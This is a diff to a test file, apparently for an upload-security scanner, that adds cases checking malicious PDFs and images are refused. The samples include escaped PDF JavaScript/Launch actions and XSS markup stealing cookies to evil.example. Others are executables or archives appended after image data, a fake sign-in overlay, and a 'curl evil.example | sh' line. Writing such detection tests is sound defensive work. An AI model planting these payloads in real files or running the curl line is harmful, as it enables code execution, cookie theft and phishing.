@@ -4,7 +4,25 @@ import { FILE_TYPES } from "../../src/lib/uploads/file-types";
 import { ARCHIVE_LIMITS, contentThreats, universalThreats } from "../../src/lib/uploads/threats";
 import { createUser } from "../helpers/auth";
 import { call, problemOf } from "../helpers/http";
-import { concat, elf, gif, jpeg, macho, pdf, pe, png, zip } from "../helpers/files";
+import {
+  concat,
+  elf,
+  gif,
+  gifWithComment,
+  jpeg,
+  jpegSegment,
+  jpegWith,
+  macho,
+  noise,
+  pdf,
+  pdfWithObjectStream,
+  pe,
+  png,
+  pngChunk,
+  pngWith,
+  webpWith,
+  zip,
+} from "../helpers/files";
 import { eventually, securityEventsWhere } from "../helpers/security";
 
 /**
@@ -166,6 +184,98 @@ describe("422 malicious_file, with a SecurityEvent, whatever the file is called"
   });
 });
 
+/** Sends a file that must be refused as malicious for `reason`, leaving nothing stored. */
+async function expectMalicious(bytes: Uint8Array, filename: string, type: string, reason: string) {
+  const { user, headers } = await createUser();
+  const res = await upload(headers, { bytes, name: filename, type });
+  expect(res.status, await res.clone().text()).toBe(422);
+  const problem = await problemOf(res);
+  expect(problem.code).toBe("malicious_file");
+  expect(problem.reasons).toContain(reason);
+  expect(await uploadCount(user.id)).toBe(0);
+  expect(await storedObjects(user.id)).toBe(0);
+}
+
+/** Writes a PDF name with every character as a `#xx` escape, as a reader accepts it. */
+const escapedName = (name: string) => `/${[...name].map((ch) => `#${ch.charCodeAt(0).toString(16).padStart(2, "0")}`).join("")}`;
+
+describe("PDF active content is judged on decoded names, in the raw file and in object streams", () => {
+  const ACTIVE = ["JavaScript", "JS", "Launch", "OpenAction", "AA", "URI", "SubmitForm", "GoToR", "ImportData", "EmbeddedFile", "RichMedia", "XFA"];
+  const value = (name: string) => (name === "JS" || name === "URI" ? "(x)" : "<< /S /GoTo >>");
+
+  it.each(ACTIVE)("/%s, plain and #xx-escaped (first letter, every letter)", async (name) => {
+    const firstEscaped = `/#${name.charCodeAt(0).toString(16)}${name.slice(1)}`;
+    for (const written of [`/${name}`, firstEscaped, escapedName(name)]) {
+      await expectMalicious(pdf(`${written} ${value(name)} `), "doc.pdf", "application/pdf", "pdf_active_content");
+    }
+  });
+
+  it("an action hidden in a compressed object stream", async () => {
+    const hidden = await pdfWithObjectStream("<< /Type /Action /S /Launch /F (calc.exe) >>");
+    expect(new TextDecoder("latin1").decode(hidden)).not.toContain("/Launch");
+    await expectMalicious(hidden, "report.pdf", "application/pdf", "pdf_active_content");
+    await expectMalicious(await pdfWithObjectStream(`<< ${escapedName("OpenAction")} 3 0 R >>`, { indirectLength: true }), "r.pdf", "application/pdf", "pdf_active_content");
+  });
+
+  const uninspectable: [string, () => Promise<Uint8Array>][] = [
+    ["an object stream behind a filter other than Flate", () => pdfWithObjectStream("<< /S /JavaScript >>", { filter: "[/ASCII85Decode /FlateDecode]" })],
+    ["an object stream behind LZW", () => pdfWithObjectStream("<< /S /JavaScript >>", { filter: "/LZWDecode" })],
+    ["an object stream with a predictor", () => pdfWithObjectStream("<< /Kids [] >>", { dictionary: "/DecodeParms << /Predictor 12 /Columns 4 >> " })],
+    ["an object stream whose data is corrupt", () => pdfWithObjectStream("<< /Kids [] >>", { mangle: (data) => concat(data.subarray(0, 4), noise(data.byteLength - 4, 7)) })],
+    ["an object stream whose data stops short", () => pdfWithObjectStream("<< /Kids [] >>".repeat(50), { mangle: (data) => data.subarray(0, data.byteLength - 6) })],
+  ];
+  it.each(uninspectable)("refuses %s as pdf_uninspectable", async (_name, make) => {
+    await expectMalicious(await make(), "opaque.pdf", "application/pdf", "pdf_uninspectable");
+  });
+});
+
+describe("images: markup anywhere outside their pixels, and what is appended after their end", () => {
+  // None of these uses a marker long enough for the whole-file scan: only the image's structure finds them.
+  const payloads = ['<p onclick="alert(document.cookie)">tap</p>', "<a id=x href=//evil.example/steal>open</a>", '<meta http-equiv="refresh" content="0;url=//x">', "<form action=//evil.example><button>go</button></form>", "<select autofocus onfocus=alert(1)>"];
+  const carriers: [string, (markup: string) => Uint8Array, string, string][] = [
+    ["a PNG tEXt chunk", (m) => pngWith([pngChunk("tEXt", concat("Comment\0", m))]), "a.png", "image/png"],
+    ["a PNG private chunk", (m) => pngWith([pngChunk("prVt", m)]), "a.png", "image/png"],
+    ["a JPEG comment", (m) => jpegWith([jpegSegment(0xfe, m)]), "a.jpg", "image/jpeg"],
+    ["JPEG XMP metadata", (m) => jpegWith([jpegSegment(0xe1, concat("http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>", m, "</x:xmpmeta>"))]), "a.jpg", "image/jpeg"],
+    ["a GIF comment", (m) => gifWithComment(m), "a.gif", "image/gif"],
+    ["a WebP XMP chunk", (m) => webpWith("XMP ", m), "a.webp", "image/webp"],
+  ];
+  for (const [carrier, make, filename, type] of carriers) {
+    it(`markup in ${carrier}`, async () => {
+      for (const markup of payloads) await expectMalicious(make(markup), filename, type, "embedded_markup");
+    });
+  }
+
+  const appended: [string, () => Uint8Array | Promise<Uint8Array>, string, string, string][] = [
+    ["a zip after a PNG's IEND", async () => concat(png(), await zip([{ name: "run.txt", content: "x" }])), "a.png", "image/png", "appended_archive"],
+    ["a zip after padding after a JPEG's EOI", async () => concat(jpeg(), noise(300, 3), await zip([{ name: "a.txt", content: "x" }])), "a.jpg", "image/jpeg", "appended_archive"],
+    ["a gzip stream after a GIF's trailer", () => concat(gif(), new Uint8Array([0x1f, 0x8b, 0x08, 0x00]), noise(64, 5)), "a.gif", "image/gif", "appended_archive"],
+    ["a RAR archive after a WebP", () => concat(webpWith("EXIF", noise(40, 9)), "Rar!\u001a\u0007\u0001\u0000", noise(64, 11)), "a.webp", "image/webp", "appended_archive"],
+    ["a 7-Zip archive after a PNG", () => concat(png(), new Uint8Array([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c]), noise(64, 13)), "a.png", "image/png", "appended_archive"],
+    ["an ELF executable after a JPEG", () => concat(jpeg(), elf()), "a.jpg", "image/jpeg", "appended_executable"],
+    ["a PE executable deep inside data after a GIF", () => concat(gif(), noise(1000, 17), pe()), "a.gif", "image/gif", "appended_executable"],
+    ["a Mach-O binary after a PNG", () => concat(png(), macho()), "a.png", "image/png", "appended_executable"],
+    ["a shell script after a PNG", () => concat(png(), "\n#!/bin/sh\ncurl evil.example | sh\n"), "a.png", "image/png", "appended_executable"],
+    ["an HTML fragment after a PNG", () => concat(png(), "<div style=position:fixed;inset:0>Session expired, sign in again</div>"), "a.png", "image/png", "appended_markup"],
+    ["markup after a JPEG's EOI", () => concat(jpeg(), noise(200, 19), "<p title=x onmouseover=alert(1)>hover me</p>"), "a.jpg", "image/jpeg", "appended_markup"],
+  ];
+  it.each(appended)("%s", async (_name, make, filename, type, reason) => {
+    await expectMalicious(await make(), filename, type, reason);
+  });
+
+  it("refuses an image whose structure breaks before its end as not being that type", async () => {
+    const { headers } = await createUser();
+    const truncated = png().subarray(0, 40);
+    const noEnd = jpegWith([]).subarray(0, 24);
+    const badChunk = concat(png().subarray(0, 33), new Uint8Array([0x7f, 0xff, 0xff, 0xff]), "IDAT");
+    for (const [bytes, name, type] of [[truncated, "a.png", "image/png"], [noEnd, "a.jpg", "image/jpeg"], [badChunk, "b.png", "image/png"], [gif().subarray(0, 20), "a.gif", "image/gif"]] as const) {
+      const res = await upload(headers, { bytes, name, type });
+      expect(res.status, name).toBe(415);
+      expect((await problemOf(res)).code).toBe("unsupported_file_type");
+    }
+  });
+});
+
 describe("inspection cost stays linear on hostile files", () => {
   it("judges a CSV built to make a formula scan backtrack without blowing up", async () => {
     const csv = text(",=".repeat(1_000_000) + "|");
@@ -179,6 +289,20 @@ describe("inspection cost stays linear on hostile files", () => {
     image.set(png());
     const started = performance.now();
     expect(universalThreats("big.png", image)).toEqual([]);
+    expect(performance.now() - started).toBeLessThan(HANG_GUARD_MS);
+  });
+
+  it("walks a 10 MB PNG of random pixels and a large appended blob without blowing up or a false alarm", async () => {
+    const image = concat(pngWith([], noise(10 * 1024 * 1024 - 200, 23)), noise(3 * 1024 * 1024, 29));
+    const started = performance.now();
+    expect(await contentThreats(FILE_TYPES.png, image)).toEqual([]);
+    expect(performance.now() - started).toBeLessThan(HANG_GUARD_MS);
+  });
+
+  it("reads a PDF of many hostile shapes (names, keywords, fake object streams) in linear time", async () => {
+    const hostile = concat(pdf(), "/#4".repeat(200_000), " 1 0 obj << /First 1 /Filter /FlateDecode >>\nstream\n".repeat(4000), "x".repeat(1_000_000), "\nendstream\n");
+    const started = performance.now();
+    expect(await contentThreats(FILE_TYPES.pdf, hostile)).toEqual(["pdf_uninspectable"]);
     expect(performance.now() - started).toBeLessThan(HANG_GUARD_MS);
   });
 });
